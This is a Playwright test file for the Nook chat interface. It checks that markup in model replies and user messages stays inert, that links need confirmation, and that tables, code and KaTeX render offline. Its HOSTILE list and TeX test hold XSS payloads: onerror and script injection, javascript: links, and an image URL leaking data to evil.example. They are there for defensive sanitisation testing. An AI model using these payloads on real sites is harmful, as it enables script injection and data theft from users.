import { expect, test } from './fixtures';

declare global {
  interface Window {
    __pwned?: unknown;
  }
}

const HOSTILE = [
  '<img src=x onerror="window.__pwned=1">',
  '<script>window.__pwned=1</script>',
  '[click](javascript:window.__pwned=1)',
  '<iframe src="https://evil.example/"></iframe>',
  '<a href="javascript:window.__pwned=1">x</a>',
  '![secret](https://evil.example/leak.png?q=secret)',
  '<form action="https://evil.example"><button>go</button></form>',
];

test('hostile markup in a reply is shown as text and cannot run, load or leak', async ({
  baseURL,
  chat,
  context,
  page,
}) => {
  const evilRequests: string[] = [];
  context.on('request', (request) => {
    // The page's own address carries the reply text, so only the host counts.
    if (new URL(request.url()).hostname.endsWith('evil.example')) evilRequests.push(request.url());
  });
  const dialogs: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });

  await chat.open({ scripted_load_ms: 0, scripted_tps: 100, scripted_reply: HOSTILE.join('\n\n') });
  await chat.send('Show me some HTML');
  const reply = chat.lastReply();
  await expect(reply).toHaveAttribute('data-status', 'done');

  // Raw HTML reads as the text the model wrote.
  await expect(reply).toContainText('<img src=x onerror="window.__pwned=1">');
  await expect(reply).toContainText('<script>window.__pwned=1</script>');
  await expect(reply).toContainText('<iframe src="https://evil.example/"></iframe>');
  await expect(reply).toContainText('<a href="javascript:window.__pwned=1">x</a>');
  await expect(reply).toContainText(
    '<form action="https://evil.example"><button>go</button></form>',
  );

  // None of it became an element (the reply's text, not Nook's own icons around it).
  await expect(
    chat.content(reply).locator('img, script, iframe, form, object, embed, svg'),
  ).toHaveCount(0);
  await expect(reply.getByRole('button', { name: 'go' })).toHaveCount(0);
  await expect(page.locator('[href^="javascript:" i], [src^="javascript:" i]')).toHaveCount(0);
  await expect(page.locator('[onerror], [onclick], [onload]')).toHaveCount(0);

  // The image is a link the user may choose to follow, once told where it goes; not a request
  // made for them. The page holds no address to follow at all.
  await expect(page.locator('.message-content [href], .message-content [src]')).toHaveCount(0);
  await reply.getByRole('link', { name: 'Image: secret' }).click();
  const ask = page.getByRole('dialog', { name: 'Open this image?' });
  await expect(chat.linkFact('Site')).toHaveText('evil.example');
  await ask.getByRole('button', { name: 'Cancel' }).click();
  await expect(ask).toBeHidden();

  // The javascript: link lost its target: clicking its text does nothing.
  await expect(reply.getByRole('link', { name: 'click' })).toHaveCount(0);
  const pagesBefore = context.pages().length;
  await reply.getByText('click', { exact: true }).click();
  // Give anything that might have been triggered a moment to happen.
  await page.waitForTimeout(500);
  expect(context.pages()).toHaveLength(pagesBefore);
  expect(page.url()).toMatch(new RegExp(`^${baseURL}/`));

  expect(await page.evaluate(() => window.__pwned)).toBeUndefined();
  expect(dialogs).toEqual([]);
  expect(evilRequests).toEqual([]);
});

test('hostile text typed by the user is shown as typed', async ({ chat, page }) => {
  await chat.open({ scripted_load_ms: 0, scripted_tps: 500, scripted_reply: 'Noted.' });
  const typed = HOSTILE.join('\n');
  await chat.sendAndWait(typed);
  const message = chat.messages('user').last();
  await expect(chat.content(message)).toHaveText(typed);
  await expect(message.locator('img, script, iframe, form, a')).toHaveCount(0);
  expect(await page.evaluate(() => window.__pwned)).toBeUndefined();
});

test('a link in a reply opens only once the user has seen where it goes, in a new tab with no referrer and no handle on Nook', async ({
  chat,
  context,
  page,
}) => {
  const visits: { url: string; referer: string | undefined }[] = [];
  await context.route('https://example.com/**', async (route) => {
    visits.push({ url: route.request().url(), referer: route.request().headers()['referer'] });
    await route.fulfill({ contentType: 'text/html', body: '<title>Example</title><p>Docs</p>' });
  });
  await chat.open({
    scripted_load_ms: 0,
    scripted_tps: 200,
    scripted_reply:
      'Read [the docs](https://example.com/docs?topic=links) or mail [us](mailto:help@example.com). See https://example.org/auto too.',
  });
  await chat.sendAndWait('Where can I read more?');
  const reply = chat.lastReply();

  // A click asks first, naming the site and the whole address; Cancel leaves everything as it was.
  const docs = reply.getByRole('link', { name: 'the docs' });
  await docs.click();
  const ask = page.getByRole('dialog', { name: 'Open this link?' });
  await expect(chat.linkFact('Site')).toHaveText('example.com');
  await expect(chat.linkFact('Address')).toHaveText('https://example.com/docs?topic=links');
  await ask.getByRole('button', { name: 'Cancel' }).click();
  await expect(ask).toBeHidden();
  await expect(docs).toBeFocused();
  // A middle click opens nothing either: the link has no address of its own.
  await docs.click({ button: 'middle' });
  await page.waitForTimeout(300);
  expect(context.pages()).toHaveLength(1);
  expect(visits).toEqual([]);

  // Confirmed, it opens in a new tab that is sent no referrer and gets no handle on Nook.
  await docs.press('Enter');
  const [opened] = await Promise.all([
    context.waitForEvent('page'),
    ask.getByRole('link', { name: 'Open in a new tab' }).click(),
  ]);
  await opened.waitForLoadState();
  await expect(ask).toBeHidden();
  expect(opened.url()).toBe('https://example.com/docs?topic=links');
  expect(await opened.evaluate(() => [window.opener, document.referrer])).toEqual([null, '']);
  expect(visits).toEqual([{ url: 'https://example.com/docs?topic=links', referer: undefined }]);
  expect(page.url()).toContain('scripted_reply');

  // An autolink is a link like any other; mailto: is no link, its text stays.
  await reply.getByRole('link', { name: 'https://example.org/auto' }).click();
  await expect(chat.linkFact('Site')).toHaveText('example.org');
  await page.keyboard.press('Escape');
  await expect(ask).toBeHidden();
  await expect(reply.getByRole('link', { name: 'us' })).toHaveCount(0);
  await expect(chat.content(reply)).toContainText('mail us.');
});

test('a table and a fenced code block render, and the code can be copied', async ({
  chat,
  context,
  page,
}) => {
  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
  const code = "def greet(name):\n    return f'Hello, {name}!'";
  await chat.open({
    scripted_load_ms: 0,
    scripted_tps: 200,
    scripted_reply: [
      '| Model | Size |',
      '| --- | ---: |',
      '| Llama | 1B |',
      '| Qwen | 0.6B |',
      '',
      '```python',
      code,
      '```',
    ].join('\n'),
  });
  await chat.sendAndWait('Compare models and show code');
  const reply = chat.lastReply();

  const table = reply.getByRole('table');
  await expect(table.getByRole('columnheader')).toHaveText(['Model', 'Size']);
  await expect(table.getByRole('row')).toHaveCount(3);
  await expect(table.getByRole('row').nth(2).getByRole('cell')).toHaveText(['Qwen', '0.6B']);

  await expect(reply.getByText('def greet(name):')).toBeVisible();
  await expect(reply.getByText('python', { exact: true })).toBeVisible();
  const copy = reply.getByRole('button', { name: 'Copy code' });
  await copy.click();
  await expect(reply.getByRole('button', { name: 'Copied' })).toBeVisible();
  expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(code);
  await expect(copy).toBeVisible();
});

test('TeX in a reply is typeset with KaTeX, offline, and cannot link or load anything', async ({
  baseURL,
  chat,
  context,
  page,
}) => {
  const requests: string[] = [];
  context.on('request', (request) => requests.push(request.url()));
  const reply = [
    'Euler: $e^{i\\pi} + 1 = 0$, and \\(a^2 + b^2 = c^2\\).',
    '$$\n\\int_0^1 x^2\\,dx = \\frac{1}{3}\n$$',
    '\\[\\sum_{n=1}^{\\infty} \\frac{1}{n^2} = \\frac{\\pi^2}{6}\\]',
    'Hostile: $\\href{javascript:window.__pwned=1}{x}$ $\\includegraphics{https://evil.example/a.png}$',
  ].join('\n\n');
  await chat.open({ scripted_load_ms: 0, scripted_tps: 200, scripted_reply: reply });
  await chat.send('Some maths, please');
  const shown = chat.lastReply();
  await expect(shown).toHaveAttribute('data-status', 'done');
  await expect(shown.locator('.katex')).toHaveCount(6);
  await expect(shown.locator('.katex-display')).toHaveCount(2);
  // KaTeX's own fonts, served by Nook.
  await expect.poll(() => page.evaluate(() => document.fonts.check('16px KaTeX_Main'))).toBe(true);
  await expect(shown.locator('a, img')).toHaveCount(0);
  expect(await page.evaluate(() => window.__pwned)).toBeUndefined();
  const elsewhere = requests.filter((url) => !url.startsWith(`${baseURL}/`));
  expect(elsewhere).toEqual([]);
});
